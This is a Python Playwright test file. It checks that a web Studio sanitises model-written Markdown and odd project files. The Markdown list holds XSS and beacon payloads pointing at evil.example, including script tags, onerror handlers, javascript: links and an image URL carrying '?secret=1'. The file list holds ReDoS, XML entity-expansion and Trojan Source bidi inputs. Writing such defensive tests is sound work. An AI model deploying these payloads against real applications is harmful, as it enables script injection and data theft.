"""Strangers' texts in a real browser: a model's Markdown and a project's files do no harm in the Studio."""

import re
from typing import Any

from playwright.sync_api import Page, expect

from devkit.scripted_model.replies import finish
from devkit.stack.project import Make
from devkit.studio.browser import Visit
from local.openai_server.reply import say
from local.stack import LocalStack
from tests.support.window import in_window, opened

EVIL = "https://evil.example"
MARKDOWN = (
    f"![a picture]({EVIL}/pixel.png?secret=1)",
    f"![]({EVIL.removeprefix('https:')}/pixel.png)",
    f"[![x]({EVIL}/p.png)]({EVIL})",
    f"![x][far]\n\n[far]: {EVIL}/p.png",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    f"<img src='{EVIL}/p.png' onerror='window.stolen=1'>",
    "<script>window.stolen = 1</script>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    "<style>body{display:none}</style>",
    f"<form action='{EVIL}'><input name=q></form>",
    f"<base href='{EVIL}'>",
    "<svg><script>window.stolen=1</script></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<video poster='{EVIL}/p.png' autoplay></video>",
    "<dialog open>Sign in again</dialog>",
    "<div style='position:fixed;inset:0;background:red'>over all</div>",
    "[run](javascript:window.stolen=1)",
    "[run](JaVa\tScRiPt:window.stolen=1)",
    "[run](&#106;avascript:window.stolen=1)",
    "[run](data:text/html,<script>1</script>)",
    "[run](vbscript:x)",
    "[run](blob:http://a/b)",
    "[run](file:///etc/passwd)",
    "<javascript:window.stolen=1>",
    f"[https://bank.example]({EVIL}/login)",
    "https://аpple.example/",
    f"[^note]\n\n[^note]: ![x]({EVIL}/p.png)",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:window.stolen=1"\n```',
    "```html\n<script>window.stolen = 1</script>\n```",
    "\u202etxt.exe\u2066 turned around",
    "a" * 20_000,
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "[" * 3000 + "x" + "]" * 3000,
    "*" * 5000,
    "`" * 4999,
    "_a" * 4000,
    "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + ("|" + "b|" * 300 + "\n") * 5,
    "<" * 5000,
    "&amp;" * 3000,
    "\\" * 5000,
    "# <h1>Studio</h1>",
    "<!-- " + "x" * 5000,
    "\x1b[31mred\x07",
    "1. " * 1500,
    "~~" * 2500,
    f"<{EVIL}/" + "a" * 4000 + ">",
)
"""Markdown that a model may be led to write, each by itself."""
PASSES = 4
FILES: dict[str, str] = {
    "src/line.ts": f"export const long = '{'x' * 400_000}';\n",
    "src/minified.ts": "export const a = [" + "{b:1,c:[2]}," * 30_000 + "];\n",
    "src/mixed.ts": "export const a = 1;\r\nexport const b = 2;\nexport const c = 3;\r\n",
    "src/turned.ts": "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */ export const turned = 1;\n",
    "src/unseen.ts": "export const seen = 'a\u200b\u200d\ufeff\u00ad';\n",
    "src/open.ts": f"export const open = {'(' * 200}1{')' * 200};\n",
    "src/quotes.css": "a{content:'" + "\\'" * 50_000 + "'}\n",
    "src/deep.css": "@media screen{" * 100 + "a{color:red}" + "}" * 100 + "\n",
    "src/deep.json": "[" * 300 + "]" * 300 + "\n",
    "src/backtick.md": "`" * 100_000 + "\n",
    "src/brackets.md": "[" * 50_000 + "\n",
    "src/quoted.md": "> " * 40_000 + "\n",
    "src/stars.md": "*a " * 50_000 + "\n",
    "src/fences.md": "```js\n" * 5_000 + "\n",
    "src/page.md": "<script>window.stolen = 1</script>\n![x](https://evil.example/p.png)\n",
    "src/tags.html": "<div>" * 20_000 + "\n",
    "src/attributes.html": "<a " + "b='c' " * 40_000 + ">\n",
    "src/scripts.html": "<script>window.stolen = 1</script>\n" * 2000,
    "src/entities.xml": "<!DOCTYPE a [<!ENTITY b 'c'>" + "<!ENTITY d '&b;&b;'>" * 5000 + "]><a/>\n",
    "src/drawing.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='stolen=1'><script>stolen=1</script></svg>\n",
    "src/regex.ts": "export const r = /" + "(a+)+" * 2000 + "$/;\n",
    "src/template.ts": "export const t = " + "`${" * 100 + "1" + "}`" * 100 + ";\n",
    "src/comment.ts": "/*" + "*" * 200_000 + "*/\nexport const c = 1;\n",
    "src/many.ts": "export const m = 1;\n" + "// line\n" * 60_000,
    "src/empty.ts": "",
    "src/spaces.txt": " " * 400_000 + "\n",
    "src/tabs.txt": "\t" * 200_000 + "\n",
    "src/combining.txt": "a" + "\u0301" * 100_000 + "\n",
    "src/emoji.txt": "\U0001f469\u200d\U0001f469\u200d\U0001f466" * 20_000 + "\n",
    "src/a b & <i>.txt": "a name\n",
    "src/ünïcode ‮ name.txt": "another name\n",
    "src/" + "long" * 40 + ".txt": "a long name\n",
    "src/javascript:alert(1).txt": "a name that runs\n",
    "src/constructor": "no ending\n",
    "src/__proto__.ts": "export const p = 1;\n",
    "src/x.toString": "an ending of the prototype\n",
}
"""Files that an editor may choke on, by their contents or names."""


def harm(page: Page, visit: Visit, asked: list[str]) -> list[str]:
    """What a text has reached that it should not."""
    found = [url for url in asked if "evil.example" in url]
    found += visit.page_errors + [said for said in visit.console_errors if "policy" in said]
    found += page.evaluate(
        """() => [...document.querySelectorAll("a[href]")].map((at) => at.href)
             .filter((href) => !/^(https?|mailto):/.test(href) && !href.startsWith("blob:" + location.origin))"""
    )
    found += page.evaluate(
        """() => [...document.querySelectorAll("main img[src], main video, main form[action]")]
             .filter((at) => !at.src || new URL(at.src).origin !== location.origin && !/^(data|blob):/.test(at.src))
             .map((at) => at.outerHTML.slice(0, 200))"""
    )
    ran: list[str] = page.evaluate("window.stolen ? ['a script ran'] : []")
    return found + ran


@in_window(width=1440, height=900, complaints=None)
def test_markdown_of_a_model_runs_and_fetches_nothing(page: Page, visit: Visit, stack: LocalStack, make: Make) -> None:
    project = make("vanilla", "Rosa").ready()
    asked: list[str] = []
    for part in range(PASSES):
        project.chat(f"Part {part}", say("\n\n".join(MARKDOWN[part::PASSES])), finish("Done"))
    page.on("request", lambda request: asked.append(request.url))
    opened(page, stack, "")
    for part in range(PASSES):
        talks = project.client.call("GET", f"{project.builder}/threads")["items"]
        chat = next(one for one in talks if str(one["title"]).startswith(f"Part {part}"))
        page.goto(f"{stack.api_url}/studio/apps/{project.id}?chat={chat['id']}")
        expect(page.get_by_role("article", name=re.compile(f"^Part {part}"))).to_be_visible()
        page.wait_for_timeout(1000)
        assert harm(page, visit, asked) == []
        box = page.get_by_role("textbox", name="Message", exact=True)
        box.fill("Still here")
        expect(box).to_have_value("Still here")
        rels = page.evaluate("[...document.querySelectorAll('article a[target=_blank]')].map((at) => at.rel)")
        assert all("noopener" in rel for rel in rels)


@in_window(width=1440, height=900, complaints=None)
def test_the_editor_opens_every_file_and_stays_usable(page: Page, visit: Visit, stack: LocalStack, make: Make) -> None:
    project = make("vanilla", "Rosa")
    refused: list[str] = []
    kept: list[str] = []
    for path, text in FILES.items():
        save: dict[str, Any] = {
            "base_revision_id": project.draft,
            "operations": [{"op": "upsert_file", "path": path, "content": text}],
        }
        answer = project.client.http.post(f"{project.builder}/revisions", json=save)
        assert answer.status_code in (201, 422), (path, answer.text[:300])
        (kept if answer.status_code == 201 else refused).append(path)
    assert len(kept) >= 20, refused
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    opened(page, stack, f"apps/{project.id}?tab=code")
    for path in kept:
        page.evaluate(
            """([app, file]) => { history.pushState({}, "", `/studio/apps/${app}?` +
                 new URLSearchParams({ tab: "code", file })); dispatchEvent(new PopStateEvent("popstate")); }""",
            [project.id, path],
        )
        expect(page.get_by_role("tabpanel").get_by_text(path.rpartition("/")[2]).first).to_be_visible()
        box = page.get_by_role("textbox", name="Message", exact=True)
        box.fill(path[-20:])
        expect(box).to_have_value(path[-20:])
        assert harm(page, visit, asked) == [], path
